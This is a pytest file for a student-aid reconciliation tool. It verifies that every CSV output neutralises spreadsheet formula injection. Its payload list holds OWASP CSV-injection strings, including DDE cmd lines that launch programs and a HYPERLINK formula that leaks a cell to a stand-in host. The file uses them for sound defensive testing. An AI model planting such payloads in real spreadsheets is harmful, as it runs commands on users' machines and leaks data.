"""Issue 13, case 2: no CSV aidmatch writes can run a formula in the clerk's Excel or WPS.

Every CSV goes through one neutralising writer (:mod:`aidmatch.outputs.csvsafe`): the OWASP CSV
injection prefixes are fed through every result list, and the package is checked for any other
way of writing CSV.
"""

from __future__ import annotations

import ast
import csv
import re
import unicodedata
from pathlib import Path

import pytest

from aidmatch.outputs.csvsafe import is_formula_like, neutralise
from aidmatch.outputs.files import write_csv
from aidmatch.pipeline import reconcile
from aidmatch.semester import Semester
from aidmatch.synth.writers import BookOut
from tests.builders import make_id
from tests.builders import write_csv as write_input_csv
from tests.conftest import DANFENG, STUDENTS, write_mini_exports

SRC = Path(__file__).resolve().parents[1] / "src" / "aidmatch"
# The OWASP list of formula starts, and the same after leading whitespace.
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_neutralised(payload: str) -> None:
    assert is_formula_like(payload)
    written = neutralise(payload)
    assert written == "'" + payload and not is_formula_like(str(written))


@pytest.mark.parametrize("value", ["-375.00", "+86", "375", "-0.5", ".5", "1e5", "王芳", "",
                                   "G611022201212127771", "2025-03-01", "— 无 —", "'=已是文本"])
def test_text_that_is_no_formula_is_kept(value: str) -> None:
    assert neutralise(value) == value


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, ["资助金额（元）", "说明"], [[-375.0, "-375.00"], [-312.5, "=1+1"], [None, 0]])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["资助金额（元）", "说明"], ["-375.0", "-375.00"], ["-312.5", "'=1+1"], ["", "0"]]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_every_result_list_neutralises_the_owasp_prefixes(tmp_path: Path) -> None:
    """Payloads in file names, names, schools and programmes reach gaps.csv, key_students.csv,
    matches.csv, review.csv, rejects.csv and the finding lists; none arrives as a formula."""
    exports = write_mini_exports(tmp_path / "in")
    header = ["学年", "学期", "学籍号", "姓名", "身份证号", "学校名称", "资助项目名称",
              "资助金额（元）"]
    rows: list[list[object]] = [header]
    for n, payload in enumerate(PAYLOADS):
        stranger = make_id(DANFENG, "20120909", f"{n + 100:03d}")
        # Not in the registry: 非在读享受资助 with the payment's own name and school.
        rows.append(["2024-2025", "第二学期", "", payload, stranger, payload, payload, "375"])
    plain = STUDENTS["plain"]
    # A registry student paid under a payload programme name: 标准不符, matches.csv.
    rows.append(["2024-2025", "第二学期", plain.student_no, plain.name, plain.id, "丹凤中学",
                 PAYLOADS[0], "375"])
    rows.append(["合计", "", "", "", "", "", "", "9999"])  # a rejected row of a payload file
    write_input_csv(exports / "=HYPERLINK(1)资助.csv", rows)
    write_input_csv(exports / "@SUM(1)|cmd 资助.csv", [header, *rows[1:3], ["合计"] + [""] * 7])
    out = tmp_path / "out"
    reconcile(exports, Semester.parse("2025-spring"), out, db_path=tmp_path / "x.duckdb")
    files = sorted(out.glob("*.csv"))
    assert {p.name for p in files} >= {"gaps.csv", "key_students.csv", "matches.csv",
                                       "review.csv", "rejects.csv", "not_enrolled_aid.csv",
                                       "duplicate_aid.csv", "wrong_standard.csv",
                                       "identity_errors.csv", "linkage_model.csv"}
    seen = 0
    for path in files:
        for cell in _cells(path):
            assert not is_formula_like(cell), (path.name, cell)
            seen += cell.startswith("'") and is_formula_like(cell[1:])
    assert seen >= len(PAYLOADS)
    # The loader trims and NFKC-folds names; what is left of every payload is written as text.
    listed = _cells(out / "not_enrolled_aid.csv")
    for payload in PAYLOADS:
        assert "'" + unicodedata.normalize("NFKC", payload).strip() in listed, payload
    assert any(c.startswith("'=HYPERLINK(1)") for c in _cells(out / "rejects.csv"))
    assert any(c.startswith("'=HYPERLINK(1)") for c in _cells(out / "matches.csv"))


def test_synthetic_exports_go_through_the_same_writer(tmp_path: Path) -> None:
    book = BookOut(tmp_path / "x.csv", "csv")
    sheet = book.sheet("")
    sheet.write(["姓名", "金额"])
    for payload in PAYLOADS:
        sheet.write([payload, -375])
    book.close()
    cells = _cells(tmp_path / "x.csv")
    assert not [c for c in cells if is_formula_like(c)]
    assert "-375" in cells


# Ways of writing CSV other than aidmatch.outputs.csvsafe.
_FORBIDDEN_ATTRIBUTES = {("csv", "writer"), ("csv", "DictWriter"), ("pa_csv", "write_csv"),
                         ("pyarrow.csv", "write_csv")}
_FORBIDDEN_METHODS = {"to_csv", "write_csv"}  # DuckDB relations, pandas, pyarrow


# SQL that writes a file: COPY … TO 'file' / ? / {name} … CSV (not prose that says "copy … to")
_COPY_TO_CSV = re.compile(r"(?is)\bCOPY\b[^;]*?\bTO\s*['\"?{].*\bCSV\b")


def _csv_writers(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
                and (node.value.id, node.attr) in _FORBIDDEN_ATTRIBUTES:
            found.append(f"{node.value.id}.{node.attr} (line {node.lineno})")
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and node.func.attr in _FORBIDDEN_METHODS:
            found.append(f".{node.func.attr}() (line {node.lineno})")
        if isinstance(node, ast.ImportFrom) and node.module in ("csv", "pyarrow.csv") \
                and any(a.name in ("writer", "DictWriter", "write_csv") for a in node.names):
            found.append(f"from {node.module} import … (line {node.lineno})")
        if isinstance(node, ast.Constant) and isinstance(node.value, str) \
                and _COPY_TO_CSV.search(node.value):
            found.append(f"COPY … TO … CSV (line {node.lineno})")
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and node.func.attr in ("write_text", "write_bytes") \
                and ".csv" in ast.unparse(node.func.value):
            found.append(f"{ast.unparse(node.func)} (line {node.lineno})")
    return found


def test_no_module_writes_csv_but_through_the_one_writer(tmp_path: Path) -> None:
    offenders = {
        str(path.relative_to(SRC)): found
        for path in sorted(SRC.rglob("*.py"))
        if path.name != "csvsafe.py" and (found := _csv_writers(path))
    }
    assert offenders == {}
    # The check itself sees the ways it forbids.
    probe = tmp_path / "probe.py"
    probe.write_text("import csv\nw = csv.writer(h)\nrel.write_csv('x.csv')\n"
                     "con.execute(\"COPY t TO 'a.csv' (FORMAT CSV)\")\n"
                     "Path('gaps.csv').write_text('=1')\n", encoding="utf-8")
    assert len(_csv_writers(probe)) == 4
